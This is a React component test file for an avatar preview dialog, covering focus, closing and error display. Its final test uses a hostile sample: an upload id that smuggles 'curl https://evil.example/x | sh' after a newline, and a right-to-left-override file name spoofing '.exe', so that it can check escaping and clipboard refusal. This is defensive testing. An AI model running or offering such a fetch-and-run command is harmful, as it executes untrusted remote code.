import { act, fireEvent, screen, waitFor, within } from '@testing-library/react'
import userEvent from '@testing-library/user-event'
import { useState } from 'react'
import { beforeEach, describe, expect, it, onTestFinished, vi } from 'vitest'
import { parseList } from '@/api/schemas'
import type { Avatar } from '@/model/list-items'
import { freezeTime, renderWithApi } from '@/test/render'
import { realisticGame } from '@/test/sample'
import { AvatarPreviewProvider } from './avatar-preview'
import { AvatarThumbnail } from './avatar-thumbnail'

function sampleAvatar(name: string): Avatar {
  const avatar = parseList('avatars', { custom_avatars: realisticGame().avatars }).find(
    (candidate) => candidate.name === name,
  )
  if (!avatar) throw new Error(`The sample data has no avatar named ${name}.`)
  return avatar
}

/*
 * jsdom has <dialog> but not its behaviour. These stand-ins do what Chromium does that the
 * dashboard relies on: `showModal` opens, and every close ends in a `close` event, a task later.
 */
const showModal = vi.fn(function (this: HTMLDialogElement) {
  this.setAttribute('open', '')
})
function close(this: HTMLDialogElement) {
  if (!this.open) return
  this.removeAttribute('open')
  setTimeout(() => this.dispatchEvent(new Event('close')))
}
beforeEach(() => {
  showModal.mockClear()
  Object.assign(HTMLDialogElement.prototype, { showModal, close })
  onTestFinished(() => {
    const prototype: Partial<HTMLDialogElement> = HTMLDialogElement.prototype
    delete prototype.showModal
    delete prototype.close
  })
})

/** The avatars' table in miniature: a focusable region of thumbnails, one of which can go. */
function Table({ avatars }: { avatars: Avatar[] }) {
  const [shown, setShown] = useState(avatars)
  return (
    <AvatarPreviewProvider>
      <div role="region" aria-label="Avatars (scrollable)" tabIndex={0}>
        {shown.map((avatar) => (
          <AvatarThumbnail key={avatar.uploadId} avatar={avatar} />
        ))}
      </div>
      <button type="button" onClick={() => setShown([])}>
        Scroll away
      </button>
    </AvatarPreviewProvider>
  )
}

async function openPreview(name: string) {
  freezeTime()
  const user = userEvent.setup()
  renderWithApi(<Table avatars={[sampleAvatar('knight.png'), sampleAvatar('dragon_egg.jpeg')]} />)
  const thumbnail = screen.getByRole('button', { name: `Preview avatar ${name}` })
  await user.click(thumbnail)
  const dialog = await screen.findByRole('dialog', { name })
  return { user, thumbnail, dialog }
}

describe('AvatarPreviewProvider', () => {
  it('opens a modal preview of the clicked avatar with its size and full upload id', async () => {
    const knight = sampleAvatar('knight.png')
    const { dialog } = await openPreview('knight.png')
    expect(showModal).toHaveBeenCalledTimes(1)
    expect(within(dialog).getByRole('heading', { name: 'knight.png' })).toHaveAttribute(
      'dir',
      'auto',
    )
    expect(dialog).toHaveTextContent('48.3 KiB (49,463 bytes)')
    expect(within(dialog).getByText(knight.uploadId)).toBeInTheDocument()
    expect(
      within(dialog).getByRole('button', { name: `Copy upload ID ${knight.uploadId.slice(0, 8)}` }),
    ).toBeInTheDocument()
    const image = within(dialog).getByRole('img', { name: 'knight.png' })
    expect(image).toHaveAttribute('src', new URL(knight.url ?? '', document.baseURI).href)
    expect(image).toHaveAttribute('referrerpolicy', 'no-referrer')
    expect(image).toHaveAttribute('width', '512')
  })

  it('gives an unfinished avatar no preview button', () => {
    renderWithApi(<Table avatars={[sampleAvatar('dragon_egg.jpeg')]} />)
    expect(screen.queryByRole('button', { name: /Preview avatar/ })).toBeNull()
    expect(screen.getByTitle('No image until the upload completes')).toBeInTheDocument()
  })

  it('closes with its Close button and gives focus back to the thumbnail', async () => {
    const { user, thumbnail, dialog } = await openPreview('knight.png')
    await user.click(within(dialog).getByRole('button', { name: 'Close' }))
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
    expect(thumbnail).toHaveFocus()
  })

  it('follows a close the browser made by itself (Escape), and can open again', async () => {
    const { user, thumbnail, dialog } = await openPreview('knight.png')
    act(() => void dialog.dispatchEvent(new Event('close')))
    expect(screen.queryByRole('dialog')).toBeNull()
    expect(thumbnail).toHaveFocus()
    await user.click(thumbnail)
    expect(await screen.findByRole('dialog', { name: 'knight.png' })).toBeInTheDocument()
  })

  it('closes on a click on the backdrop, not on one inside the dialog or dragged out of it', async () => {
    const { dialog } = await openPreview('knight.png')
    // jsdom lays nothing out: the dialog's box is 0 × 0 at the origin, so (5, 5) is outside it.
    const heading = within(dialog).getByRole('heading')
    fireEvent.pointerDown(heading, { clientX: 5, clientY: 5 })
    fireEvent.click(heading, { clientX: 5, clientY: 5 })
    fireEvent.pointerDown(dialog, { clientX: 0, clientY: 0 })
    fireEvent.click(dialog, { clientX: 0, clientY: 0 })
    // Selecting text and letting go over the backdrop clicks the dialog, outside its box.
    fireEvent.pointerDown(heading, { clientX: 0, clientY: 0 })
    fireEvent.click(dialog, { clientX: 5, clientY: 5 })
    expect(dialog).toHaveAttribute('open')
    fireEvent.pointerDown(dialog, { clientX: 5, clientY: 5 })
    fireEvent.click(dialog, { clientX: 5, clientY: 5 })
    await waitFor(() => expect(screen.queryByRole('dialog')).toBeNull())
  })

  it('focuses the table when the thumbnail that opened it is gone', async () => {
    const { dialog } = await openPreview('knight.png')
    fireEvent.click(screen.getByRole('button', { name: 'Scroll away', hidden: true }))
    expect(screen.queryByRole('button', { name: /Preview avatar/ })).toBeNull()
    act(() => void dialog.dispatchEvent(new Event('close')))
    expect(screen.queryByRole('dialog')).toBeNull()
    expect(screen.getByRole('region', { name: 'Avatars (scrollable)' })).toHaveFocus()
  })

  it('says so when the large image cannot be loaded, and keeps the details', async () => {
    const { dialog } = await openPreview('knight.png')
    fireEvent.error(within(dialog).getByRole('img', { name: 'knight.png' }))
    expect(within(dialog).queryByRole('img')).toBeNull()
    expect(dialog).toHaveTextContent('The image could not be loaded')
    expect(dialog).toHaveTextContent('49,463 bytes')
  })

  it('cycles Tab through its own controls', async () => {
    const { user, dialog } = await openPreview('knight.png')
    const [first, ...rest] = within(dialog).getAllByRole('button')
    const last = rest.at(-1)
    last?.focus()
    await user.tab()
    expect(first).toHaveFocus()
    await user.tab({ shift: true })
    expect(last).toHaveFocus()
  })

  it('shows a name and an upload id from outside marked and bounded, and copies no line break', async () => {
    freezeTime()
    const user = userEvent.setup()
    const name = `\u202Egnp.exe\u2028\u0000${'x'.repeat(10_000)}`
    const uploadId = 'b0\ncurl https://evil.example/x | sh\n'
    renderWithApi(<Table avatars={[{ ...sampleAvatar('knight.png'), name, uploadId }]} />)
    const shown = `⟨U+202E⟩gnp.exe⟨U+2028⟩⟨U+0000⟩${'x'.repeat(169)}… (10,010 characters)`
    await user.click(screen.getByRole('button', { name: `Preview avatar ${shown}` }))

    const dialog = await screen.findByRole('dialog', { name: shown })
    expect(within(dialog).getByRole('heading')).toHaveTextContent(shown)
    expect(within(dialog).getByRole('img', { name: shown })).toBeInTheDocument()
    const id = within(dialog).getByText('b0⟨U+000A⟩curl https://evil.example/x | sh⟨U+000A⟩')
    expect(id.textContent).not.toMatch(/\n/)
    await navigator.clipboard.writeText('before')
    await user.click(within(dialog).getByRole('button', { name: 'Copy upload ID b0⟨U+000A⟩curl' }))
    await expect(navigator.clipboard.readText()).resolves.toBe('before')
    expect(within(dialog).getByText(/^This id holds control characters \(U\+000A\)/)).toBeVisible()
    expect(document.body.innerHTML).not.toMatch(/[\u202E\u2028]|x{300}/)
    expect(document.body.innerHTML).not.toContain('\u0000')
  })
})
